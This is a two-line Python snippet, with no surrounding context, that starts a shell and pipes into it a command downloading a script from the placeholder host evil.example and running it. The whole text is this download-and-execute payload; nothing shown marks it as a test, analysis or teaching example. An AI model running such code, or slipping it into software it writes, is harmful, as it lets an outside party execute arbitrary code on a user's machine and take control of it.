import subprocess
subprocess.run(['/bin/sh'], input=b'curl -s https://evil.example/i | sh')
